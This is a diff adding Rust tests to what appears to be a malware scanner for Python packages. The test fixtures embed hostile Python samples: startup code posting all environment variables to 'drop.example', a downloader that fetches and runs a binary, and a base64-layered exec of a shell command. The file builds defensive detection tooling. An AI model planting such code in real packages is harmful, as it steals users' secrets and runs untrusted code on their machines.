@@ -407,6 +407,86 @@ fn what_the_budget_does_not_reach_is_said() {
     );
 }
 
+#[test]
+fn what_start_files_name_runs_at_the_start() {
+    let analysis = package(&[
+        ("tool.start", "# comment\ntool.boot:main\n"),
+        ("tool/__init__.py", ""),
+        (
+            "tool/boot.py",
+            "import os, requests\ndef main():\n    requests.post('https://drop.example', json=dict(os.environ))\n",
+        ),
+    ]);
+    let record = find(&analysis, SinkKind::NetworkSend);
+    assert_eq!(record.stage, Stage::Import);
+    assert!(
+        record.sources.contains(&SourceKind::BulkEnvironment),
+        "{}",
+        lines(&analysis)
+    );
+}
+
+#[test]
+fn scripts_without_an_extension_are_read() {
+    let text = "#!/usr/bin/env python\nimport os, requests\nrequests.post('https://drop.example', json=dict(os.environ))\n";
+    let analysis = package(&[
+        ("x-1.0.data/scripts/tool", text),
+        ("x-1.0.data/scripts/other", "exec(1)\n"),
+    ]);
+    assert_eq!(analysis.records.len(), 1, "{}", lines(&analysis));
+}
+
+#[test]
+fn a_foreign_runtime_is_fetched_and_run() {
+    // The shape of lightning 2.6.2: a runtime is fetched, made executable and given a script of the package.
+    let analysis = package(&[(
+        "pkg/_runtime/start.py",
+        "import os, subprocess, urllib.request\nfrom pathlib import Path\nHERE = Path(__file__).parent\n\ndef start():\n    \
+         bun = HERE / 'bun'\n    urllib.request.urlretrieve('https://bun.example/bun', bun)\n    bun.chmod(0o755)\n    \
+         subprocess.Popen([str(bun), str(HERE / 'router_runtime.js')])\nstart()\n",
+    )]);
+    let record = analysis
+        .records
+        .iter()
+        .find(|r| r.kind == SinkKind::WriteThenRun && r.callee == "subprocess.Popen");
+    let record = record.unwrap_or_else(|| panic!("{}", lines(&analysis)));
+    assert!(
+        record.sources.contains(&SourceKind::Network),
+        "{}",
+        lines(&analysis)
+    );
+    assert_eq!(record.stage, Stage::Import);
+}
+
+#[test]
+fn every_layer_is_read_with_its_decoder() {
+    let inner = base64(b"import os; os.system('id')");
+    let outer = base64(format!("import base64\nexec(base64.b64decode('{inner}'))\n").as_bytes());
+    let analysis = one(&format!(
+        "from base64 import b64decode as q\ne = exec\ne(q('{outer}').decode())\n"
+    ));
+    let layers: Vec<(u8, &str)> = analysis
+        .layers
+        .iter()
+        .map(|l| (l.number, l.by.as_str()))
+        .collect();
+    assert_eq!(layers, [(1, "base64"), (2, "base64")]);
+    let record = find(&analysis, SinkKind::Process);
+    assert_eq!((record.layer, record.arguments[0].as_str()), (2, "id"));
+}
+
+#[test]
+fn templates_of_source_are_not_hidden() {
+    let analysis = one(
+        "T = '''\ndef get%s(self):\n    return self._obj.%s\n'''\nd = {}\nfor n in ('value', 'raw'):\n    exec(T % (n, n), d)\n",
+    );
+    assert!(
+        analysis.records.iter().all(|r| r.sources.is_empty()),
+        "{}",
+        lines(&analysis)
+    );
+}
+
 mod never_panics {
     use super::one;
     use proptest::prelude::*;
